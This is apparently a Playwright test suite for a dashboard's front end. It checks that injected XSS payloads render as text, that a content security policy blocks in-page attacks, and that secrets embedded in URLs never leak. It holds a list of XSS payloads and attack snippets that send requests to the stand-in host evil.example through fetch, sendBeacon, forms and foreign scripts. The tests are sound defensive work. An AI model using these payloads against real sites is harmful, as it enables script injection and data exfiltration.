"""What a message, ARM or a receiver writes stays text, and what is secret stays out."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from playwright.async_api import Page

from tests.page import values
from tests.page.conftest import Open, Opened
from tests.page.service import POLICY, Service
from tests.page.values import Json

pytestmark = pytest.mark.asyncio(loop_scope="session")
SECRET = "SECRET-7f3a"
CORPUS = (
    '<img src=x onerror="window.pwned=1">',
    "<script>window.pwned=1</script>",
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    '"><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "javascript:window.pwned=1",
    "' onfocus=window.pwned=1 autofocus tabindex=1 x='",
    "${window.pwned=1}`+(window.pwned=1)+`{{constructor.constructor('window.pwned=1')()}}",
    "</title></textarea></style></svg><script>window.pwned=1</script>",
    "data:text/html,<script>window.pwned=1</script>",
    "\u2028\u2029\u0000\ufeff\u202e<b onmouseover=window.pwned=1>\ud7ff",
    "__proto__",
)
IDENTITIES = {"subscriptionId", "key", "operationKey", "state"}  # the app's own words


def poisoned(value: Any, text: str, name: str = "") -> Any:
    """Return `value` with `text` in every text that is not an instant or a word of the app."""
    match value:
        case str() if name in IDENTITIES or (value[:2] == "20" and value[-1:] == "Z"):
            return value
        case str():
            return text
        case dict():
            return {key: poisoned(item, text, key) for key, item in value.items()}
        case list():
            return [poisoned(item, text, name) for item in value]
        case None if name == "resultJson":
            return {text: [text, {text: text}]}
        case _:
            return value


def hostile(text: str) -> Service:
    usual = Service()
    usual.whole[0] |= {"resultJson": None, "lostReason": "x", "callbackOn": {"x": ["Failed"]}}
    changed: dict[str, Any] = {
        name: poisoned(getattr(usual, name), text)
        for name in ("operations", "deliveries", "rejections", "kinds", "summary", "health")
    }
    whole = poisoned(usual.whole, text)
    whole.append(whole[0] | {"key": "microsoft.cache~x~y~lost", "status": "Lost"})
    changed["operations"] = changed["operations"][:20]
    return Service(whole=whole, **changed)


OPEN_ALL = """() => {
  document.querySelectorAll("details").forEach(each => each.open = true);
  document.querySelectorAll("main a, main button").forEach(each => each.focus());
}"""
VIEWS = ("operations", "deliveries", "rejections", "kinds", "health")


async def visit(opened: Opened, service: Service, check: Callable[[Page], Any]) -> None:
    """Show every view with everything in it opened, and call `check` in each."""
    wholes = [f"operations/{row['subscriptionId']}/{row['key']}" for row in service.whole]
    for view in (*VIEWS, *wholes):
        page = await opened.go(view)
        await page.evaluate(OPEN_ALL)
        await check(page)


@pytest.mark.parametrize("policy", [POLICY, None], ids=["policy", "no policy"])
async def test_hostile_texts_stay_text(open_page: Open, policy: str | None) -> None:
    text = " ".join(CORPUS)
    service = hostile(text)
    service.policy = policy
    opened = await open_page(service)

    async def check(page: Page) -> None:
        assert await page.evaluate("window.pwned") is None
        foreign = "iframe, img, object, embed, base, main script, main style, [onerror], [onload]"
        assert await page.locator(foreign).count() == 0
        links: list[str] = await page.evaluate("[...document.links].map(link => link.protocol)")
        assert set(links) <= {"http:", "https:"}

    await visit(opened, service, check)
    assert "<img src=x" in await opened.page.locator("main").inner_text()  # shown, as text
    assert opened.unexpected == []
    assert opened.foreign == []


async def test_each_hostile_text_alone_stays_text(open_page: Open, service: Service) -> None:
    """Together, one text could hide what another does: each is shown alone, too."""
    service.policy = None
    opened = await open_page(service)
    for text in CORPUS:
        other = hostile(text)
        service.operations, service.whole = other.operations, other.whole
        for view in ("operations", f"operations/{values.SUBSCRIPTION}/{service.whole[0]['key']}"):
            page = await opened.go(view)
            await opened.turn(0, least=0)
            assert await page.evaluate("window.pwned") is None, text
    assert opened.unexpected == []


async def test_hostile_fragment_names_no_script(open_page: Open, service: Service) -> None:
    opened = await open_page(service)
    odd = ("%", "operations/%E0%A4%A/%", "operations?status=%3Cscript%3E", "deliveries?state=x")
    for fragment in (*CORPUS, *odd, "a/b/c/d"):
        page = await opened.page.goto(f"{opened.url}/api/dashboard#/{fragment}")
        await opened.page.wait_for_selector("main :is(table, .note, .skeleton)")
        assert await opened.page.evaluate("window.pwned") is None
        assert page is None or page.ok
    assert opened.unexpected == []


ADD = "document.body.append(Object.assign(document.createElement('{}'), {{{}}}))"
EVIL = "'https://evil.example/'"
ATTACKS = {
    "inline script": ADD.format("script", "textContent: 'window.pwned=1'"),
    "eval": "eval('window.pwned=1')",
    "Function": "new Function('window.pwned=1')()",
    "innerHTML": "document.body.innerHTML = '<img src=x onerror=window.pwned=1>'",
    "handler": "document.body.setAttribute('onclick', 'window.pwned=1'); document.body.click()",
    "foreign script": ADD.format("script", f"src: {EVIL}"),
    "types of its own": "trustedTypes.createPolicy('mine', {createScript: text => text})",
    "foreign fetch": f"fetch({EVIL}).then(() => window.pwned = 1, () => 0)",
    "foreign image": ADD.format("img", f"src: {EVIL}"),
    "beacon": f"navigator.sendBeacon({EVIL})",
    "frame": ADD.format("iframe", f"src: {EVIL}"),
    "base": ADD.format("base", f"href: {EVIL}"),
    "form": f"{ADD.format('form', f'action: {EVIL}')}; document.forms[1].submit()",
    "style": ADD.format("style", "textContent: 'body{background:url(https://evil.example/)}'"),
    "style of an element": "document.body.setAttribute('style', 'color: red')",
}


async def test_policy_stops_attacks_from_inside(open_page: Open) -> None:
    """Each attack runs in a task of the page.

    What a debugger evaluates is above the policy, and so is a timer that the test's clock calls.
    """
    opened = await open_page(Service(operations=values.operations(3)))
    page = await opened.go("operations")
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))
    await page.evaluate(
        "document.addEventListener('securitypolicyviolation', () => window.stopped++)"
    )
    for name, attack in ATTACKS.items():
        await page.evaluate("void (window.stopped = 0)")
        await page.evaluate(f"""() => {{
          const channel = new MessageChannel();
          channel.port1.onmessage = () => {{ try {{ {attack} }} catch {{ window.stopped++ }} }};
          channel.port2.postMessage(0);
        }}""")
        await opened.turn(0.1, least=0)
        await opened.turn(0, least=0)
        assert await page.evaluate("[window.pwned, window.stopped > 0]") == [None, True], name
    assert not [url for url in answered if "evil.example" in url]


async def test_every_answer_of_the_page_has_the_policy(open_page: Open, service: Service) -> None:
    opened = await open_page(service)
    for path in ("", "/", "/nothing", "/nothing/app.js"):
        answer = await opened.page.request.get(f"{service.url or opened.url}/api/dashboard{path}")
        assert answer.headers["content-security-policy"] == POLICY
        assert answer.headers["x-content-type-options"] == "nosniff"


def secretive() -> Service:
    """Return answers that leak more than the API's own would: secrets in every URL."""
    signed = f"https://management.azure.com/subscriptions/s/x?t=1&s={SECRET}"
    hook = f"https://user:{SECRET}@hooks.example.com/services/{SECRET}?code={SECRET}"
    secrets: Json = {
        "url": signed,
        "callbacks": [hook],
        "callbackOn": {hook: ["Failed"]},
        "errorMessage": f"GET {signed} failed",
        "errorMessageInner": f"see /subscriptions/s/x?sig={SECRET}",
        "errorJson": {"message": f"PUT {signed}", "details": [{"target": signed}]},
        "resultJson": {"sas": f"https://blob.example/c?sv=1&sig={SECRET}"},
        "lastMiss": f"no answer of {signed}",
    }
    quoted = {"callbackUrl": hook, "lastError": f"GET {hook}"}
    deliveries = [row | quoted for row in values.deliveries()]
    whole = [row | secrets | {"deliveries": deliveries[:2]} for row in Service().whole]
    posted = f'{{"operation": "{signed}", "callbackUrl": "{hook}"}}'
    bodies = [posted, signed, hook, f"/subscriptions/x?s={SECRET}"]
    return Service(
        keys={"read": f"read-{SECRET}", "write": f"write-{SECRET}"},
        whole=whole,
        deliveries=deliveries,
        rejections=[
            row | {"body": body} for row, body in zip(values.rejections(), bodies, strict=True)
        ],
        operations=[
            row | {"errorMessage": secrets["errorMessage"]} for row in values.operations(5)
        ],
    )


async def test_no_secret_is_in_the_document_or_in_a_request_line(open_page: Open) -> None:
    service = secretive()
    opened = await open_page(service)
    page = await opened.go("operations")
    await page.get_by_label("Viewer's key").fill(service.keys["read"])
    await page.get_by_label("Operator's key").fill(service.keys["write"])
    await page.get_by_role("button", name="Open").click()
    await page.wait_for_selector("table.ops")

    async def check(page: Page) -> None:
        document = await page.evaluate("document.documentElement.outerHTML + location.href")
        assert SECRET not in document

    await visit(opened, service, check)
    assert [request for request in service.requests if SECRET in request.raw_path] == []
    stored: Json = await page.evaluate("({...localStorage})")
    assert SECRET not in json.dumps(stored)
    sent = {request.headers.get("x-functions-key") for request in service.requests[-3:]}
    assert sent == {service.keys["read"]}
    headers = {name.lower() for request in service.requests for name in request.headers}
    assert not headers & {"cookie", "referer", "authorization"}
